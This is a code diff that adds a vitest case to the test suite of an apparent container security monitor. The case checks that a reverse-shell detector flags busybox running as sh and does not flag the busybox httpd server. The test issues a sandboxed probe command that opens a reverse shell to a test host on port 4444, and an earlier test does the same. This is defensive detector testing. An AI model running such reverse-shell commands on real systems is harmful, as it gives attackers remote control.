@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { LearningState } from "#gen/gabion/model/v1/model_pb.ts";
 import { Delivery, Effect, Outcome } from "#gen/gabion/policy/v1/policy_pb.ts";
 import { CONTAINERS, missing } from "../test/requirements.ts";
+import { until } from "../tools/demo/until.ts";
 import { AgentRig } from "../tools/sandbox/agent-rig.ts";
 import { testProgram } from "../tools/sandbox/programs.ts";
 import type { SandboxContainer } from "../tools/sandbox/runc.ts";
@@ -105,6 +106,35 @@ describe("detectors of the process section", () => {
     await web.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
     await rig.audited("the shell", (a) => rig.audits.indexOf(a) >= before && a.decision?.detector === "reverse_shell");
     expect(rig.audits.slice(before).some((a) => a.decision?.detector === "lateral_movement")).toBe(false);
+  });
+
+  onKernel("the server of a busybox hands connections to its children and is no shell; its shell is one", async () => {
+    await rig.rules({
+      process: { effect: Effect.ALERT, detectors: { reverse_shell: {} } },
+      syscall: { effect: Effect.ALERT },
+    });
+    const applets = rig.sandbox.start("applets", {
+      args: ["/bin/httpd", "-f", "-p", "8080", "-h", "/tmp"],
+      programs: [],
+      applets: ["/bin/sh", "/bin/httpd", "/bin/wget"],
+      files: { [PROBE]: { content: testProgram("netprobe"), mode: 0o755 } },
+    });
+    await rig.watched("applets");
+    await applets.addAddresses(HOST);
+    const ofApplets = () =>
+      rig.audits.filter((a) => a.container?.containerId === "applets" && a.decision?.detector === "reverse_shell");
+    // Each request is a child whose input becomes the connection; the call by which it does is told like any other.
+    await until("the server's answer", 15_000, async () => {
+      const { output } = await applets.exec("/bin/wget", "-q", "-O", "-", "http://127.0.0.1:8080/");
+      return output.includes("404") || undefined;
+    });
+    void applets.exec(PROBE, "serve", HOST, "4444", "300");
+    await until("the shell", 15_000, async () => {
+      // Until somebody listens there is no connection to be a shell's input.
+      await applets.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
+      return ofApplets().some((a) => a.message.includes("`/bin/busybox` as `sh`")) || undefined;
+    });
+    expect(ofApplets().filter((a) => !a.message.includes("as `sh`"))).toEqual([]);
   });
 
   onKernel("block stops the container of a reverse shell", async () => {
